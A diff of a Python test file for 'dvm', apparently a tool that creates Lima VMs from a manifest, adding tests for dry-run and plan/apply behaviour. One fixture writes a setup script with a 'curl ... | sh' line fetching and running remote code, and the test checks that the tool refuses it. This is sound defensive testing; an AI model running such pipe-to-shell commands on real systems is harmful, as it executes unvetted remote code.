@@ -171,14 +171,38 @@ def test_a_name_that_is_taken_is_refused(dvm: Dvm) -> None:
     assert dvm.calls(changing=True) == []
 
 
-def test_a_dry_run_shows_arguments_and_scripts_and_asks_lima_nothing(one: Dvm) -> None:
+def test_a_dry_run_shows_the_plan_then_arguments_and_scripts_and_changes_nothing(one: Dvm) -> None:
     for command in (["sync", "app"], ["apply"], ["apply", "-y"]):
         result = one.run(*command, DVM_DRY_RUN="1")
         assert result.code == 0
-        assert "limactl create --tty=false --name=dvm-app --mount-none" in result.out
-        assert result.out.index("setup/a.sh") < result.out.index("setup/b.sh")
-        assert not one.record.exists()
+        assert (
+            0
+            < result.out.index("Plan: 1 to add")
+            < result.out.index("limactl create --tty=false --name=dvm-app --mount-none")
+        )
+        assert result.out.rindex("setup/a.sh") < result.out.rindex("setup/b.sh")
+    assert one.calls(changing=True) == []
     assert not one.state.exists()
+
+
+def test_a_dry_run_shows_what_an_apply_would_do_now(one: Dvm) -> None:
+    saved = str(one.place / "p.plan")
+    assert one.run("plan", "--out", saved).code == 0
+    assert "limactl create" in one.run("apply", saved, DVM_DRY_RUN="1").out
+    assert one.run("apply", "-y").code == 0
+    one.forget()
+    for command in (["sync", "app"], ["apply"]):
+        assert one.run(*command, DVM_DRY_RUN="1").out.endswith("No changes. Your VMs match the manifest.\n")
+    assert one.run("apply", saved, DVM_DRY_RUN="1").code == 4
+    one.script("setup/b.sh", "echo other")
+    result = one.run("apply", DVM_DRY_RUN="1")
+    calls = [line for line in result.out.splitlines() if line.startswith("limactl ")]
+    assert len(calls) == 1
+    assert "dvm-setup" in calls[0]
+    one.write("setup/b.sh", "curl -s https://example.org/x | sh\n", 0o700)
+    denied = one.run("apply", DVM_DRY_RUN="1")
+    assert (denied.code, "limactl shell" in denied.out) == (3, False)
+    assert one.calls(changing=True) == []
 
 
 def test_sync_wants_to_know_which_and_never_asks(one: Dvm) -> None:
